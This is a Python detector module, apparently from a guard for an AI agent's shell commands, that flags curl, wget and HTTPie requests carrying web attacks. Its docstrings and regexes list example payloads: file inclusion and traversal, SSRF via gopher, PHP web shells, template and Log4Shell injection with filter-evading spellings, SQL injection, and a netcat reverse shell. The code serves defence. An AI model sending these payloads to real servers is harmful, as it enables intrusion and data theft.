"""What a request to another host's web application carries that attacks it.

An HTTP client run from the shell sends a URL (its path and query), form fields, a body, headers
and files. A coding task sends data; an attack on a web application sends what the application
will run or open for the sender:

- **a file of the server's** named in a parameter: a stream wrapper (``?page=php://filter/…``,
  ``expect://id``, ``data://text/plain;base64,…``, ``phar://``, ``zip://``), a system path
  (``?file=/etc/passwd``, ``/proc/self/environ``, ``C:\\Windows\\win.ini``), a climb out of a folder
  (``....//....//etc/passwd``) or a script on another host (``?page=http://10.0.0.5/shell.txt``):
  a local or remote file inclusion;
- **a server-side request** to an internal service: ``?url=gopher://127.0.0.1:6379/_…``,
  ``dict://``, ``file:///``;
- **code for the server**: PHP (``curl -A "<?php system($_GET['c']); ?>"``, log poisoning; a
  ``php://input`` body), a template expression (``{{config.__class__.__init__.__globals__…}}``,
  ``{{7*7}}``, ``${T(java.lang.Runtime)…}``), a JNDI lookup (``${jndi:ldap://…}``, in any spelling
  of the lookups that hide it), an XML external entity (``<!ENTITY x SYSTEM "file:///…">``), an SQL
  injection (``' OR 1=1-- -``, ``UNION SELECT``, ``sleep(5)``);
- **a command for the server's shell**: a web shell's parameter (``shell.php?cmd=id``, ``-d
  cmd=whoami``) or one appended to a value (``?ip=127.0.0.1;id``, ``$(…)``);
- **a file that is code** uploaded to it (``-F file=@shell.php``, ``-F 'f=@x.php;type=image/png'``,
  ``shell.php.jpg``, ``-T cmd.aspx``, ``--data-binary @x.jsp``): a web shell planted.

:func:`attack` names the first of these a request carries; :func:`shell_commands` the commands a web
shell or an injection hands to the server's shell, judged as shell code where they are run from
(:mod:`.carriers`): a reverse shell sent that way is a backdoor, not a question.

Each text is read once, with bounded patterns: the work stays linear in the command.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence

from ..lazy_regex import lazy_compile
from .hosts import only_this_machine
from .request_bodies import (
    CURL_PROGRAMS,
    FILE_UPLOADS,
    FORM,
    REQUEST_OPTIONS,
    WGET_PROGRAMS,
    file_valued_options,
    request_options,
    sent_file,
)

__all__ = ["HTTP_CLIENTS", "attack", "code_in", "shell_commands"]

HTTP_CLIENTS = frozenset({"curl", "curlie", "wget", "wget2", "http", "https", "xh", "xhs", "httpie"})
"""Programs that send a request made of their arguments."""
_HTTPIE = frozenset({"http", "https", "xh", "xhs", "httpie"})
"""HTTPie and xh: request items (``name==value`` query, ``name=value`` field, ``Header:value``,
``field@file`` upload) after the URL."""
_CURL_HEADERS = frozenset({"-A", "--user-agent", "-e", "--referer", "-b", "--cookie"})
"""curl's options whose value is a header's (the user agent, the referer, a cookie)."""
_WGET_HEADERS = frozenset({"-U", "--user-agent", "--referer", "--header"})
"""wget's options whose value is a header or a header's value."""

_PERCENT = lazy_compile(r"%([0-9A-Fa-f]{2})")
_URL = lazy_compile(r"^[a-z][a-z0-9+.-]{0,15}://", re.IGNORECASE)
_BARE_URL = lazy_compile(
    r"^(?:\d{1,3}(?:\.\d{1,3}){3}|localhost|(?:[a-z0-9-]+\.)+[a-z][a-z0-9-]*)(?::\d{1,5})?[/?]", re.IGNORECASE
)
"""A URL without its scheme, as curl and wget take one (``10.10.10.191/x.jpg?cmd=id``): read as http://."""

_WRAPPER = lazy_compile(
    r"^\s*(?:php|expect|phar|zip|glob|compress\.zlib|compress\.bzip2|zlib|rar|ogg|ssh2\.\w+|jar|netdoc)://"
    r"|^\s*data:(?://)?[\w.+-]*/[\w.+-]*[;,]",
    re.IGNORECASE,
)
"""A stream wrapper where a page or a file name is expected: PHP's and Java's ways to read the server's
files, run a command (``expect://``) or include text sent along (``data://text/plain;base64,…``)."""
_INTERNAL_SCHEME = lazy_compile(r"^\s*(?:gopher|dict|file|ldap|tftp|sftp)://", re.IGNORECASE)
"""A scheme handed to a server that fetches URLs: raw bytes to an internal service (``gopher://``,
``dict://``) or a file of the server's (``file:///etc/shadow``)."""
_SYSTEM_PATH = lazy_compile(
    r"^\s*(?:/(?:etc|proc|root|sys|boot|var/log|var/mail|var/lib/php)(?:/|$)|/home/[^/]*/\."
    r"|[a-z]:[\\/]+(?:windows|winnt|boot\.ini|inetpub|xampp|users)\b|\\\\[\w.-]+\\)",
    re.IGNORECASE,
)
"""A system file or folder (or a UNC share) named as a parameter's value: what a page or a file name
never is."""
_DOT_SEGMENT = lazy_compile(r"/\.\.?(?=/|$)")
"""A plain ``.`` or ``..`` segment of a URL's path (RFC 3986), which HTTP clients remove unless told
``--path-as-is``."""
_SERVED_SYSTEM_FILE = lazy_compile(
    r"^(?:root/|etc/(?:passwd|shadow|sudoers|crontab|cron\.)|var/spool/cron/)|(?:^|/)\.ssh/(?:authorized_keys|id_)",
    re.IGNORECASE,
)
"""A URL path that names a system's account or job files (``PUT /root/.ssh/authorized_keys``): a server that
maps its paths onto the root (a misconfigured WebDAV, an ActiveMQ or Jetty file upload) read or written."""
_CLIMB = lazy_compile(r"(?:^|[/\\])\.{2,}[/\\]|^\.\.$")
"""A climb out of a folder in a value (``../``, ``....//``, ``..\\``)."""
_REMOTE_CODE_FILE = lazy_compile(r"\.(?:php\d?|phtml|phar|inc|jspx?|aspx?|cgi|pl|sh|txt)$", re.IGNORECASE)
"""The file a remote inclusion names: code, or text the server will run as code (``shell.txt``)."""
_INCLUDE_NAMES = frozenset({
    "page", "file", "filename", "include", "inc", "path", "template", "tpl", "view", "doc", "document",
    "load", "lang", "language", "dir", "folder", "module", "mod", "style", "content", "cat", "action",
    "read", "show", "layout", "conf", "config", "pg", "p",
})  # fmt: skip
"""Parameter names a server opens or includes a file by."""
_INCLUDE_WORD = lazy_compile(r"path|file|page|include|template|dir|doc", re.IGNORECASE)
"""A word in a parameter's name that says the server opens what it names (``ajax_path``, ``tplFile``)."""
_ABSOLUTE = lazy_compile(r"^\s*(?:/|[a-z]:[\\/])", re.IGNORECASE)
_ENCODED_HOST = lazy_compile(
    r"^\s*[a-z][a-z0-9+.-]{0,15}://(?:[^/@?#]*@)?\[?(?:\d{8,10}|0x[0-9a-f]{6,8}|0[0-7]{1,4}(?:\.\d{1,4}){3}"
    r"|0x[0-9a-f]{1,2}(?:\.(?:0x)?[0-9a-f]{1,3}){3}|::ffff:[0-9a-f.:]{3,})\]?(?::\d{1,5})?(?:[/?#]|$)",
    re.IGNORECASE,
)
"""A URL whose host is an IPv4 address spelled as one number, in hex or octal, or mapped into IPv6
(``http://2130706433/``, ``http://0x7f000001/``, ``http://0177.0.0.1/``, ``http://[::ffff:127.0.0.1]``):
the spellings that slip a server-side request past a filter of internal addresses."""
_SEARCH_NAMES = frozenset({"q", "query", "search", "s", "keyword", "keywords", "term", "text", "k"})
"""Parameter names of a search box: the value is text to look for (``?q=php://filter``), not a name the
server opens."""
_COMMAND_NAMES = frozenset({"cmd", "command", "exec", "execute", "shell", "run", "system", "c", "cm", "x"})
"""Parameter names a web shell takes its command by."""
_COMMANDS = (
    r"id|whoami|uname|hostname|pwd|ls|dir|cat|type|head|tail|more|echo|ping|nc|ncat|netcat|bash|sh|zsh"
    r"|powershell|pwsh|cmd(?:\.exe)?|python[23]?|perl|php|ruby|wget|curl|certutil|net|ipconfig|ifconfig"
    r"|ps|find|env|set|systeminfo|tasklist|nslookup|busybox|socat|rm|chmod|touch|base64|printf|sleep"
    r"|mkfifo|getent|netstat|ss|sudo|su|/bin/\w+|/usr/bin/\w+"
)
_COMMAND_VALUE = lazy_compile(rf"^\s*(?:{_COMMANDS})(?:\s|$)", re.IGNORECASE)
"""A value that reads as a command line (``id``, ``cat /etc/passwd``, ``nc -c sh IP 1337``)."""
_INJECTED = lazy_compile(
    rf"(;|\|\|?|&&|\n|\$\(|`)\s*((?:{_COMMANDS})(?![\w=.-])[^\n]{{0,512}})", re.IGNORECASE
)
"""A command appended to a value (``127.0.0.1;id``, ``x|cat /etc/passwd``, ``$(whoami)``): an OS command
injection."""
_INJECTED_SUBSTITUTION = lazy_compile(rf"(?:\$\(|`)\s*(?:{_COMMANDS})\b", re.IGNORECASE)
"""A command substitution in a header or a body (``X-Forwarded-For: $(bash /tmp/x)``)."""
_PHP_CODE = lazy_compile(r"<\?(?:php\b|=)", re.IGNORECASE)
_TEMPLATE_CODE = lazy_compile(
    r"\{\{[^}]{0,400}?(?:__\w{1,20}__|\b(?:popen|subprocess|getRuntime|exec|eval|system)\s*\()"
    r"|\{\{\s*\d{1,6}\s*[*+/-]\s*['\"]?\d{1,6}['\"]?\s*\}\}|\$\{\s*\d{1,6}\s*\*\s*\d{1,6}\s*\}"
    r"|[#$*@]\{[^}]{0,200}?T\s*\(\s*java\.lang|java\.lang\.Runtime|freemarker\.template\.utility\.Execute"
    r"|<%=\s*\d{1,6}\s*\*\s*\d{1,6}\s*%>|\{\{[^}]{0,100}?\b(?:lipsum|cycler|joiner)\.__",
    re.IGNORECASE,
)
"""A server-side template expression that reaches past the template (Python's dunders, ``popen(``,
Spring's ``T(java.lang.Runtime)``, FreeMarker's ``Execute``) or the arithmetic probe that finds one
(``{{7*7}}``, ``${7*7}``, ``<%= 7*7 %>``). ``{{ name }}`` is a template's own placeholder."""
_LOOKUP = lazy_compile(
    r"\$\{(?:(?:lower|upper):|::-|[a-z]{0,10}:[^{}:]{0,40}:-)([^{}]{0,20})\}", re.IGNORECASE
)
"""A Log4j lookup that only yields text (``${lower:j}``, ``${::-n}``, ``${env:X:-d}``): how a JNDI
lookup is spelled past filters."""
_JNDI = lazy_compile(r"\$\{\s*jndi\s*:", re.IGNORECASE)
_XXE = lazy_compile(r"<!ENTITY\s{1,20}(?:%\s{0,20})?[\w.-]{1,80}\s{1,20}(?:SYSTEM|PUBLIC)\b", re.IGNORECASE)
_SQL_INJECTION = lazy_compile(
    r"\bunion\b[\s/*()]{1,40}(?:all[\s/*()]{1,40})?select\b"
    r"|['\"\d)]\s{0,10}\b(?:or|and)\b\s{0,10}['\"(]?\s{0,10}(?:\d{1,10}|'[^']{0,20}'|\"[^\"]{0,20}\"|true)"
    r"\s{0,10}(?:=|like\b|>|<)"
    r"|\b(?:sleep|pg_sleep|benchmark|extractvalue|updatexml|load_file|sys_eval|sys_exec)\s{0,10}\("
    r"|\bwaitfor\s{1,10}delay\b|\binformation_schema\b|\binto\s{1,10}(?:out|dump)file\b"
    r"|'\s{0,10}(?:;|--|#)|\border\s{1,10}by\s{1,10}\d{1,4}\s{0,10}(?:--|#)"
    r"|'\s{0,10}\b(?:and|or)\b[\s(]{0,10}(?:select|length|ascii|substr\w{0,6}|database|user|version|if|char"
    r"|exists|not)\b",
    re.IGNORECASE,
)
"""An SQL injection: a second query joined on (``UNION SELECT``), a condition that is always true
(``' OR '1'='1``, ``1 AND 1=1``), a timing or error probe (``sleep(5)``, ``extractvalue(``), the
catalogue read, a file written, a string closed and the rest commented out (``admin'-- -``)."""
_CODE_FILE = lazy_compile(
    r"\.(?:php\d?|phtml|phar|pht|phps|jspx?|jsw|jsv|aspx?|ashx|asmx|cfm|cgi|shtml|war)"
    r"(?:\.[\w-]{1,10}|%00[\w.-]{0,20}|::\$DATA)?$",
    re.IGNORECASE,
)
"""A file a web server runs: PHP, JSP, ASP.NET, CGI, a Java web archive, also behind a second
extension or a null byte (``shell.php.jpg``, ``x.php%00.png``)."""


def _decoded(text: str) -> str:
    """``text`` percent-decoded (and ``+`` as a space): what the application reads; twice when it was
    encoded twice (``%252e%252e%252f``, what gets past a filter that decodes once)."""
    if "%" not in text and "+" not in text:
        return text
    once = _PERCENT.sub(_byte, text.replace("+", " "))
    return _PERCENT.sub(_byte, once) if "%" in once else once


def _byte(match: re.Match[str]) -> str:
    return chr(int(match.group(1), 16))


def _fields(text: str) -> Iterator[tuple[str, str]]:
    """The ``name=value`` pairs of a query or a form body, decoded; a text with no ``=`` is one value."""
    for pair in text.split("&"):
        name, equals, value = pair.partition("=")
        if equals:
            yield _decoded(name).strip().lower(), _decoded(value)
        elif pair:
            yield "", _decoded(pair)


def _json_leaves(text: str) -> list[tuple[str, str]] | None:
    """A JSON body's one-line strings as ``key: value`` fields (an array's under ``""``); None when
    ``text`` is no JSON object or array. Its ``=`` are text, not a form's separators, and a string
    that spans lines is a document or code (an n8n function's JavaScript), read as a body's text."""
    body = text.strip()
    if not ((body[:1] == "{" and body[-1:] == "}") or (body[:1] == "[" and body[-1:] == "]")):
        return None
    try:
        parsed = json.loads(body)
    except (ValueError, RecursionError):
        return None
    leaves: list[tuple[str, str]] = []
    pending: list[tuple[str, object]] = [("", parsed)]
    while pending:
        key, value = pending.pop()
        if isinstance(value, dict):
            pending.extend((str(name).strip().lower(), item) for name, item in value.items())
        elif isinstance(value, list):
            pending.extend((key, item) for item in value)
        elif isinstance(value, str) and "\n" not in value:
            leaves.append((key, value))
    return leaves


class _Request:
    """The parts of one request: the URLs it goes to, its named fields, its other texts (headers,
    bodies) and the files it uploads."""

    def __init__(self, program: str, values: Sequence[str]) -> None:
        self.hosts: list[str] = []
        self.paths: list[str] = []
        self.fields: list[tuple[str, str]] = []
        self.headers: list[str] = []
        self.texts: list[str] = []
        self.uploads: list[str] = []
        httpie = program in _HTTPIE
        squashed = "--path-as-is" not in values  # curl, wget, HTTPie and xh send /a/../b as /b
        bare = program in CURL_PROGRAMS or program in WGET_PROGRAMS
        file_valued = file_valued_options(program)
        for index, value in enumerate(values):
            if _URL.match(value):
                self._url(value, squashed)
            elif httpie and not value.startswith("-"):
                self._item(value)
            elif bare and _BARE_URL.match(value) and not (index and values[index - 1] in file_valued):
                self._url("http://" + value, squashed)
        if program in CURL_PROGRAMS or program in WGET_PROGRAMS:
            self._options(program, values)

    def _url(self, url: str, squashed: bool) -> None:
        if url[:7].lower() == "file://":
            return  # a file of this machine, read by the client: the file guard's (curl file:///etc/shadow)
        rest = url.partition("://")[2]
        authority, _, path = rest.partition("/")
        host = authority.rpartition("@")[2]
        host = host.partition("]")[0].lstrip("[") if host.startswith("[") else host.partition(":")[0]
        self.hosts.append(host.lower())
        sent = path.partition("?")[0].partition("#")[0]
        if squashed:  # the plain dot segments are removed before sending; encoded ones are not
            sent = _DOT_SEGMENT.sub("/", "/" + sent)[1:]
        self.paths.append(_decoded(sent))
        query = path.partition("?")[2].partition("#")[0] if "?" in path else ""
        if "?" in authority:  # http://h?x=1
            query = authority.partition("?")[2]
        self.fields.extend(_fields(query))

    def _item(self, item: str) -> None:
        """An HTTPie request item: ``a==b`` query, ``a=b`` field, ``a:=json``, ``H:v`` header, ``f@file``."""
        for separator in ("==", ":=", "=", ":", "@"):
            name, found, value = item.partition(separator)
            if found and name and "/" not in name:
                if separator == "@":
                    self.uploads.append(value)
                elif separator == ":":
                    self.headers.append(value)
                else:
                    self.fields.append((name.lower(), value))
                return

    def _options(self, program: str, values: Sequence[str]) -> None:
        for option, value in request_options(program, values):
            file = sent_file(option, value)
            if file is not None:
                if option in FILE_UPLOADS:
                    self.uploads.append(file)
                    content_type = value.partition(";")[2]
                    if option in ("-F", "--form") and content_type:
                        self.texts.append(content_type)
                continue
            if option in ("-H", "--header"):
                self.headers.append(value.partition(":")[2] if ":" in value else value)
            elif REQUEST_OPTIONS[option] == FORM:
                name, _, content = value.partition("=")
                self.fields.append((name.strip().lower(), content))
            elif option in ("--data-urlencode", "--url-query"):
                name, equals, content = value.partition("=")
                self.fields.append((name.strip().lower(), content) if equals else ("", value))
            else:
                leaves = _json_leaves(value)
                self.fields.extend(_fields(value) if leaves is None else leaves)
                self.texts.append(value)
        options = _CURL_HEADERS if program in CURL_PROGRAMS else _WGET_HEADERS
        for index, value in enumerate(values):
            option, equals, attached = value.partition("=")
            if option in options and (equals or index + 1 < len(values)):
                self.headers.append(attached if equals else values[index + 1])

    def to_this_machine(self) -> bool:
        return only_this_machine(self.hosts)


def attack(program: str, values: Sequence[str]) -> str | None:
    """What the request ``program values`` sends to attack another host's web application, or None.

    A request to this machine only (``curl 'http://localhost:5000/?name={{7*7}}'``) is a developer
    testing their own application."""
    if program not in HTTP_CLIENTS:
        return None
    request = _Request(program, values)
    if not request.hosts or request.to_this_machine():
        return None
    for name, value in request.fields:
        why = None if name in _SEARCH_NAMES else _field_attack(name, value)
        if why:
            return why
    for path in request.paths:
        if _SERVED_SYSTEM_FILE.search(path):
            return f"requests /{path[:60]}, a system's account or key file, through the server's paths"
        if _CLIMB.search(path):
            return f"requests /{path[:60]}, a path that climbs out of the server's folders (path traversal)"
    for header in request.headers:
        if _SQL_INJECTION.search(header):
            return f"sends an SQL injection in a header ({header[:60]})"
    for text in request.headers + request.texts + request.paths + [value for _, value in request.fields]:
        why = code_in(text)
        if why:
            return why
    for file in request.uploads:
        if _CODE_FILE.search(file.strip("\"'")):
            return f"uploads {file[:80]}, code the web server would run (a web shell planted)"
    return None


def _field_attack(name: str, value: str) -> str | None:
    """What one named value (a query parameter, a form field) makes the server open or run."""
    if _WRAPPER.match(value):
        return f"hands the server a stream wrapper ({name}={value[:60]}): a file inclusion"
    if _INTERNAL_SCHEME.match(value):
        return f"has the server fetch {value[:60]} (a server-side request to an internal service or file)"
    if _SYSTEM_PATH.match(value) or _CLIMB.search(value):
        return f"names a system file for the server to open ({name}={value[:60]}): a file inclusion"
    if name in _INCLUDE_NAMES and _URL.match(value) and _REMOTE_CODE_FILE.search(value.partition("?")[0]):
        return f"has the server include code from {value[:60]} (a remote file inclusion)"
    if _ENCODED_HOST.match(value):
        return f"has the server fetch {value[:60]}, an address spelled to pass a filter (SSRF)"
    if _INCLUDE_WORD.search(name) and _ABSOLUTE.match(value) and _CODE_FILE.search(value.partition("?")[0]):
        return f"has the server open {value[:60]}, code at a path of its own ({name}=): a file inclusion"
    if name in _COMMAND_NAMES and _COMMAND_VALUE.match(value):
        return f"hands a web shell the command {value[:60]!r}"
    if _INJECTED.search(value):
        return f"appends a command to a value ({name}={value[:60]}): an OS command injection"
    if _SQL_INJECTION.search(value):
        return f"sends an SQL injection ({name}={value[:60]})"
    return None


def code_in(text: str) -> str | None:
    """Code for the server in any text sent (a header, a body, a field, a login name it logs)."""
    if _PHP_CODE.search(text):
        return "sends PHP code for the server to run (log poisoning or a code injection)"
    if _TEMPLATE_CODE.search(text):
        return "sends a server-side template expression (a template injection)"
    if "${" in text:
        unfolded = text
        for _ in range(3):  # ${${lower:j}ndi:…}: each pass unfolds one level of nesting
            unfolded = _LOOKUP.sub(r"\1", unfolded)
        if _JNDI.search(unfolded):
            return "sends a JNDI lookup for the server to make (Log4Shell)"
    if "<!" in text and _XXE.search(text):
        return "sends an XML external entity (an XXE injection)"
    if _INJECTED_SUBSTITUTION.search(text):
        return "sends a command substitution for the server's shell (an OS command injection)"
    return None


def shell_commands(program: str, values: Sequence[str]) -> list[str]:
    """The commands a request hands to another host's shell: a web shell's parameter
    (``shell.php?cmd=nc -c sh IP 1337``) or a command appended to a value (``ip=1;CMD``)."""
    if program not in HTTP_CLIENTS:
        return []
    request = _Request(program, values)
    if not request.hosts or request.to_this_machine():
        return []
    found = []
    for name, value in request.fields:
        if name in _COMMAND_NAMES and _COMMAND_VALUE.match(value):
            found.append(value)
        else:
            injected = _INJECTED.search(value)
            if injected:
                separator, command = injected.groups()
                if separator in ("$(", "`"):  # $(CMD) or `CMD`: the command ends where it closes
                    command = command.rpartition(")" if separator == "$(" else "`")[0] or command
                found.append(command)
    return found
